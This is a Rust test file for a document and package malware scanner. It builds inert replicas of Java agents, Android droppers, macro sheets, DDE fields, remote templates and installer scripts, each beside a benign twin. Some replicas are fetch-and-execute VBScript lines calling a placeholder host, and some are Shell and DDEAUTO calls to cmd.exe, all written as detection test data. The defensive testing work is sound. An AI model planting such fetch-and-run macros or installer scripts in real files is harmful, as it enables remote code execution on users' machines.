//! Java, Android, sheets of macros and scripts of installers: replicas that must be found, and twins that must not. All inert, as in
//! `make`: classes and programs have texts and no method.

use madang_artefact::{
    facts::{Kind, Reason},
    probe,
    report::Verdict,
};
use proptest::prelude::*;

use crate::{
    facts,
    make::{noise, pe, zip},
    make_code::{
        apk, axml, class, compound, dex, document, installer, jar, old_workbook, rich, template, workbook,
    },
    report,
};

const FETCHES: [&str; 3] = ["java/net/URL", "openStream", "https://a.invalid/x"];
const STARTS: [&str; 2] = ["java/lang/Runtime", "exec"];

fn all(parts: &[&[&'static str]]) -> Vec<u8> {
    class(&parts.concat())
}

/// A class that decrypts and loads, and the picture that it names.
fn hidden_class(picture: &[u8]) -> Vec<u8> {
    let texts = ["javax/crypto/Cipher", "java/lang/ClassLoader", "defineClass", "/img/a.png"];
    jar("", &[("a/Main.class", class(&texts)), ("img/a.png", picture.to_vec())])
}

/// One replica and one twin for each rule of this file.
pub(crate) fn cases() -> Vec<(&'static str, Vec<u8>, Vec<u8>)> {
    const GET: &str = "Ljava/net/HttpURLConnection;";
    const LOAD: [&str; 3] =
        ["Ldalvik/system/InMemoryDexClassLoader;", "Ljavax/crypto/Cipher;", "assets/font.ttf"];
    let exec = [0, 0x42, 1, 0x6e, 0];
    let agent = "Premain-Class: a.Agent\r\n";
    let fetch = "Set h=CreateObject(\"MSXML2.XMLHTTP\"):h.Open \"GET\",\"https://a.invalid/f\",False:h.Send";
    let acts = |more: &[&'static str]| jar("", &[("a/A.class", all(&[&FETCHES, &STARTS, more]))]);
    let bank = ["BIND_ACCESSIBILITY_SERVICE", "SYSTEM_ALERT_WINDOW", "READ_SMS"];
    let font = |head: &[u8]| apk(&[], &LOAD, &[("assets/font.ttf", [head, &noise(9000, 5)].concat())]);
    let mut icon = b"\0\0\x01\0\x01\0\x10\x10\0\0\x01\0\x20\0\x04\0\0\0\x16\0\0\0abcd".to_vec();
    let short = icon.clone();
    icon.extend(noise(40_000, 11));
    let beside = |icon: Vec<u8>| {
        let program = pe(&["ReflectiveLoader"], "bcrypt.dll", &["BCryptDecrypt"], None);
        zip(&[("a/logo.ico", icon), ("a/skin.dll", program)])
    };
    let picture = noise(20_000, 3);
    vec![
        ("D70", old_workbook(1, 1, &exec), old_workbook(0, 6, &exec)),
        ("A30", installer(38, &format!("{fetch}:ExecuteGlobal h.ResponseText")), installer(38, fetch)),
        ("B50", beside(icon), beside(short)),
        (
            "G71",
            jar(agent, &[("a/Agent.class", all(&[&FETCHES, &STARTS]))]),
            jar(agent, &[("a/Agent.class", all(&[&FETCHES]))]),
        ),
        ("G72", acts(&["setExecutable"]), acts(&[])),
        ("G73", hidden_class(&picture), hidden_class(&[b"\x89PNG\r\n\x1a\n", &picture[..]].concat())),
        ("G74", apk(&["REQUEST_INSTALL_PACKAGES"], &[GET], &[]), apk(&["INTERNET"], &[GET], &[])),
        ("G75", apk(&bank, &["x"], &[]), apk(&bank[1..], &["x"], &[])),
        ("G76", font(b"none"), font(b"\0\x01\0\0\0")),
    ]
}

#[test]
fn code_of_java_is_read() {
    let agent = "Launcher-Agent-Class: a.Ag\r\n ent\r\n";
    let two = |second: &[&'static str]| {
        jar("", &[("a/Get.class", all(&[&FETCHES])), ("a/Run.class", all(&[&STARTS, second]))])
    };
    let many = |class: Vec<u8>| {
        let names: Vec<String> = (0..80).map(|number| format!("a/C{number}.class")).collect();
        let mut files: Vec<(&str, Vec<u8>)> =
            names.iter().map(|name| (name.as_str(), all(&[&FETCHES]))).collect();
        files.push(("a/Run.class", class));
        jar("", &files)
    };
    let found = [
        ("agent", jar(agent, &[("a/Agent.class", all(&[&FETCHES]))]), "G71"),
        (
            "agent of two parts",
            jar(
                "Premain-Class: a.Agent\r\n",
                &[("a/Agent.class", all(&[&FETCHES])), ("a/B.class", all(&[&STARTS]))],
            ),
            "G71",
        ),
        ("made executable", two(&["setExecutable"]), "G72"),
        ("starts by itself", two(&["Software\\Microsoft\\Windows\\CurrentVersion\\Run"]), "G72"),
        (
            "by reflection",
            jar("", &[("a/A.class", all(&[&FETCHES, &["java.lang.Runtime", "exec", "setExecutable"]]))]),
            "G72",
        ),
        ("one class of many", many(all(&[&FETCHES, &STARTS, &["setExecutable"]])), "G72"),
        ("no picture", hidden_class(&noise(20_000, 3)), "G73"),
    ];
    for (words, bytes, id) in found {
        let report = report(&bytes);
        assert_eq!(report.verdict, Verdict::Review, "{words}: {:?}", report.findings);
        assert!(report.findings.iter().any(|finding| finding.id == id), "{words}: {:?}", report.findings);
    }
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    png.extend(noise(20_000, 3));
    let clear = [
        (
            "agent that only changes classes",
            jar(agent, &[("a/Agent.class", class(&["premain", "java/lang/instrument/Instrumentation"]))]),
        ),
        (
            "agent that starts with those who ask for it",
            jar("Premain-Class: a.Agent\r\n", &[("a/Agent.class", all(&[&FETCHES]))]),
        ),
        ("fetches and starts", two(&[])),
        ("checks a signature", two(&["setExecutable", "java/security/Signature", "verify"])),
        ("spread over many classes", many(all(&[&STARTS, &["setExecutable"]]))),
        ("a picture", hidden_class(&png)),
    ];
    for (words, bytes) in clear {
        let report = report(&bytes);
        assert_eq!(report.verdict, Verdict::Clear, "{words}: {:?}", report.findings);
    }
}

#[test]
fn applications_of_android_are_read() {
    const GET: &str = "Ljava/net/HttpURLConnection;";
    const MEMORY: &str = "Ldalvik/system/InMemoryDexClassLoader;";
    const CIPHER: &str = "Ljavax/crypto/Cipher;";
    let bank = ["BIND_ACCESSIBILITY_SERVICE", "SYSTEM_ALERT_WINDOW", "READ_SMS"];
    let font = |bytes: Vec<u8>| vec![("assets/font.ttf", bytes)];
    let found = [
        ("installs", apk(&["REQUEST_INSTALL_PACKAGES"], &[GET], &[]), "G74"),
        ("loads", apk(&["INTERNET"], &[GET, "Ldalvik/system/DexClassLoader;"], &[]), "G74"),
        ("covers", apk(&bank, &["x"], &[]), "G75"),
        ("covers, texts of two bytes", apk(&bank, &["x", "y"], &[]), "G75"),
        ("no font", apk(&[], &[MEMORY, CIPHER, "assets/font.ttf"], &font(noise(9000, 5))), "G76"),
        ("packed", apk(&[], &[MEMORY, CIPHER], &[("assets/a", noise(9000, 5))]), "G76"),
    ];
    for (words, bytes, id) in found {
        let report = report(&bytes);
        assert_eq!(report.verdict, Verdict::Review, "{words}: {:?}", report.findings);
        assert!(report.findings.iter().any(|finding| finding.id == id), "{words}: {:?}", report.findings);
    }
    let mut real = b"\0\x01\0\0\0".to_vec();
    real.extend(noise(9000, 5));
    let clear = [
        ("talks", apk(&["INTERNET", "CAMERA"], &[GET, "Landroid/app/Activity;"], &[])),
        ("accessibility alone", apk(&bank[..1], &["x"], &[])),
        ("messages alone", apk(&bank[1..], &["x"], &[])),
        ("a font", apk(&[], &[MEMORY, CIPHER, "assets/font.ttf"], &font(real))),
        ("packed, and nothing loads it", apk(&[], &[CIPHER], &[("assets/a", noise(9000, 5))])),
    ];
    for (words, bytes) in clear {
        let report = report(&bytes);
        assert_eq!(report.verdict, Verdict::Clear, "{words}: {:?}", report.findings);
    }
}

#[test]
fn code_that_cannot_be_read_is_not_called_clear() {
    let mut damaged = dex(&["a"]);
    damaged[0x38] = 9;
    let manifest = axml(&["android.permission.INTERNET"], true);
    let cases = [
        (
            "class",
            jar("", &[("a/A.class", b"\xca\xfe\xba\xbe\0\0\0\x34\0\x02\x63".to_vec())]),
            Reason::Damaged,
        ),
        ("no class", jar("", &[("a/A.class", noise(5000, 9))]), Reason::Variant),
        (
            "program",
            zip(&[("AndroidManifest.xml", manifest.clone()), ("classes.dex", damaged)]),
            Reason::Damaged,
        ),
        (
            "no program",
            zip(&[("AndroidManifest.xml", manifest), ("classes.dex", noise(5000, 9))]),
            Reason::Variant,
        ),
        (
            "no manifest",
            zip(&[("AndroidManifest.xml", noise(5000, 9)), ("classes.dex", dex(&["a"]))]),
            Reason::Variant,
        ),
        (
            "old workbook with a password",
            compound(&[("/Workbook", b"\x09\x08\x04\0\0\x06\x05\0\x2f\0\x02\0\x01\0".to_vec())]),
            Reason::Encrypted,
        ),
    ];
    for (words, bytes, reason) in cases {
        let facts = facts(&bytes);
        assert!(
            facts.unopened.iter().any(|unopened| unopened.reason == reason),
            "{words}: {:?}",
            facts.unopened
        );
        assert_eq!(report(&bytes).verdict, Verdict::NotVettable, "{words}");
    }
}

#[test]
fn documents_act_without_macros_in_basic() {
    let field = |pieces: &[&str]| {
        let pieces: String =
            pieces.iter().map(|piece| format!("<w:r><w:instrText>{piece}</w:instrText></w:r>")).collect();
        document(
            &format!("<w:fldChar w:fldCharType=\"begin\"/>{pieces}<w:fldChar w:fldCharType=\"end\"/>"),
            "",
        )
    };
    let exec = [0, 0x42, 1, 0x6e, 0];
    let cases = [
        ("field in pieces", field(&[" DDE", "AUTO cmd.exe \"/c exit 0\""]), Verdict::Review),
        ("usual field", field(&[" TOC \\o ", "\"1-3\""]), Verdict::Clear),
        ("template elsewhere", template("https://a.invalid/t.dotm"), Verdict::Review),
        ("template on a share", template("file://a.invalid/t.dotm"), Verdict::Review),
        ("template of the reader", template("file:///C:\\Users\\a\\Templates\\Normal.dotm"), Verdict::Clear),
        ("macro sheet", workbook("_xlnm.Auto_Open", "EXEC(\"x\")", "macrosheet"), Verdict::Block),
        (
            "macro sheet that waits",
            workbook("_xlnm.Print_Area", "EXEC(\"x\")", "macrosheet"),
            Verdict::Review,
        ),
        ("usual sheet", workbook("_xlnm.Print_Area", "SUM(A1)", "worksheet"), Verdict::Clear),
        ("old macro sheet", old_workbook(1, 1, &exec), Verdict::Block),
        ("old macro sheet, no call", old_workbook(1, 1, &[]), Verdict::Review),
        ("old macro sheet that waits", old_workbook(1, 6, &exec), Verdict::Review),
        ("old usual sheet", old_workbook(0, 6, &exec), Verdict::Clear),
        ("linked object", rich("\\objautlink\\objupdate", Some("https://a.invalid/a.hta")), Verdict::Review),
        (
            "linked object, without its word",
            rich("\\objemb", Some("https://a.invalid/a.hta")),
            Verdict::Review,
        ),
        ("object that loads itself", rich("\\objemb\\objupdate", None), Verdict::Review),
        ("object", rich("\\objemb", None), Verdict::Clear),
    ];
    for (words, bytes, verdict) in cases {
        let report = report(&bytes);
        assert_eq!(report.verdict, verdict, "{words}: {:?}", report.findings);
    }
    let objects = facts(&rich("\\objemb", None)).objects;
    assert_eq!(objects[1].kind, Kind::OleDocument, "the compound file is the object, and no package");
}

/// An OpenDocument text with this in its content, and these members beside.
fn open_document(body: &str, members: &[(&str, &str)]) -> Vec<u8> {
    let content = format!(
        "<?xml version=\"1.0\"?><office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" \
         xmlns:script=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" \
         xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\">{body}</office:document-content>"
    );
    let mut all =
        vec![("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", content.as_str())];
    all.extend_from_slice(members);
    let all: Vec<(&str, Vec<u8>)> = all.into_iter().map(|(name, text)| (name, text.into())).collect();
    zip(&all)
}

#[test]
fn open_documents_act_by_macros_events_and_links() {
    let listener = |event: &str| {
        format!(
            "<office:scripts><office:event-listeners><script:event-listener script:language=\"ooo:script\" \
             script:event-name=\"{event}\" xlink:href=\"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document\"/>\
             </office:event-listeners></office:scripts>"
        )
    };
    let section = |address: &str| {
        format!("<text:section><text:section-source xlink:href=\"{address}\"/></text:section>")
    };
    let dde = |program: &str| {
        format!(
            "<text:dde-connection-decl office:dde-application=\"{program}\" office:dde-topic=\"/c exit 0\"/>"
        )
    };
    let module = |code: &str| {
        format!(
            "<?xml version=\"1.0\"?><!DOCTYPE script:module PUBLIC \"-//OpenOffice.org//DTD OfficeDocument 1.0//EN\" \"module.dtd\">\
             <script:module xmlns:script=\"http://openoffice.org/2000/script\" script:name=\"Module1\" \
             script:language=\"StarBasic\">{code}</script:module>"
        )
    };
    let starts = module("Sub Main\nShell(&quot;cmd.exe /c exit 0&quot;, 0)\nEnd Sub");
    let adds = module("Function Add(a, b)\nAdd = a + b\nEnd Function");
    let path = "Basic/Standard/Module1.xml";
    let flat = format!(
        "<?xml version=\"1.0\"?><office:document xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\">{}{}</office:document>",
        listener("dom:load"),
        adds.split_once("?>").map_or("", |(_, rest)| rest.split_once('>').map_or("", |(_, module)| module))
    );
    let locked = "<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\"><manifest:file-entry \
                  manifest:full-path=\"content.xml\"><manifest:encryption-data/></manifest:file-entry></manifest:manifest>";
    let cases = [
        ("plain", open_document("<office:body/>", &[]), Verdict::Clear),
        ("starts when opened", open_document(&listener("dom:load"), &[(path, &adds)]), Verdict::Review),
        ("starts when clicked", open_document(&listener("dom:click"), &[(path, &adds)]), Verdict::Review),
        ("flat, starts when opened", flat.into_bytes(), Verdict::Review),
        ("macro that starts a program", open_document("", &[(path, &starts)]), Verdict::Review),
        ("macro that adds", open_document("", &[(path, &adds)]), Verdict::Clear),
        ("section from elsewhere", open_document(&section("https://a.invalid/t.odt"), &[]), Verdict::Review),
        ("section from beside", open_document(&section("../t.odt"), &[]), Verdict::Clear),
        ("asks another program", open_document(&dde("cmd"), &[]), Verdict::Review),
        ("asks another document", open_document(&dde("soffice"), &[]), Verdict::Clear),
        ("locked", open_document("", &[("META-INF/manifest.xml", locked)]), Verdict::NotVettable),
    ];
    for (words, bytes, verdict) in cases {
        let report = report(&bytes);
        assert_eq!(report.verdict, verdict, "{words}: {:?} {:?}", report.findings, report.not_seen);
    }
    let facts = facts(&open_document("", &[(path, &starts)]));
    assert!(
        facts.objects.iter().any(|object| object.path.ends_with("Module1.bas") && object.script.is_some())
    );
}

/// Office reads parts without a first line, and in UTF-16, too.
#[test]
fn parts_are_read_whatever_their_first_bytes_are() {
    let relations = "<Relationships><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://a.invalid/t\" TargetMode=\"External\"/></Relationships>";
    let wide: Vec<u8> =
        [0xfeff].into_iter().chain(relations.encode_utf16()).flat_map(u16::to_le_bytes).collect();
    for part in [relations.as_bytes().to_vec(), [&b"\xef\xbb\xbf"[..], relations.as_bytes()].concat(), wide] {
        let bytes =
            zip(&[("[Content_Types].xml", b"<Types/>".to_vec()), ("word/_rels/settings.xml.rels", part)]);
        assert_eq!(report(&bytes).verdict, Verdict::Review);
    }
}

#[test]
fn scripts_of_installers_are_read() {
    let fetch = "Err.Raise 1\r\nSet h=CreateObject(\"MSXML2.XMLHTTP\"):h.Open \"GET\",\"https://a.invalid/f\",False:h.Send:";
    let evaluates = format!("{fetch}ExecuteGlobal h.ResponseText");
    let starts = format!("{fetch}CreateObject(\"WScript.Shell\").Run x");
    let sets = "Session.Property(\"A\")=\"b\"\r\nSet s=CreateObject(\"WScript.Shell\")\r\ns.RegRead \"x\"";
    for kind in [6, 38, 54, 38 + 1024 + 2048, 6 + 64] {
        for (text, verdict) in
            [(evaluates.as_str(), Verdict::Block), (&starts, Verdict::Review), (sets, Verdict::Clear)]
        {
            let report = report(&installer(kind, text));
            assert_eq!(report.verdict, verdict, "{kind}: {text}: {:?}", report.findings);
        }
    }
    assert_eq!(
        report(&installer(51, &evaluates)).verdict,
        Verdict::Clear,
        "a property is set, and nothing runs"
    );
}

#[test]
fn data_behind_a_picture_needs_a_program_that_could_use_it() {
    let mut icon = b"\0\0\x01\0\x01\0\x10\x10\0\0\x01\0\x20\0\x04\0\0\0\x16\0\0\0abcd".to_vec();
    let plain = icon.clone();
    icon.extend(noise(40_000, 11));
    let loads = |text: &str| pe(&[text], "bcrypt.dll", &["BCryptDecrypt"], None);
    let with = |icon: &[u8], program: Vec<u8>| zip(&[("a/logo.ico", icon.to_vec()), ("a/skin.dll", program)]);
    let cases = [
        (with(&icon, loads("ReflectiveLoader")), true),
        (with(&icon, loads("x")), false),
        (with(&plain, loads("ReflectiveLoader")), false),
    ];
    for (bytes, found) in cases {
        let report = report(&bytes);
        assert_eq!(report.findings.iter().any(|finding| finding.id == "B50"), found, "{:?}", report.findings);
    }
}

proptest! {
    /// Readers of nonsense with the right head end, without a panic.
    #[test]
    fn nonsense_is_read_to_some_end(body in proptest::collection::vec(any::<u8>(), 0..600), at in 0_usize..200, value in any::<u32>()) {
        let heads: [(&[u8], Kind); 6] = [
            (b"\x89PNG\r\n\x1a\n", Kind::Image),
            (b"\0\0\x01\0", Kind::Image),
            (b"\xca\xfe\xba\xbe\0\0\0\x34", Kind::JavaClass),
            (b"dex\n035\0", Kind::Dex),
            (b"\x03\0\x08\0", Kind::Data),
            (b"\x09\x08\x08\0\0\x06\x05\0", Kind::Data),
        ];
        for (head, kind) in heads {
            let bytes = [head, &body].concat();
            probe::read_bytes_as(kind, &bytes);
            probe::android_texts(&bytes);
            probe::workbook(&bytes);
        }
        // One number of a file that is right is changed.
        let good = [class(&["a", "java/net/URL"]), dex(&["a", "b"]), axml(&["a", "bc"], true), axml(&["a"], false)];
        for mut bytes in good {
            let at = at % (bytes.len() - 3);
            bytes[at..at + 4].copy_from_slice(&value.to_le_bytes());
            probe::read_bytes_as(Kind::JavaClass, &bytes);
            probe::android_texts(&bytes);
            probe::workbook(&bytes);
        }
    }
}
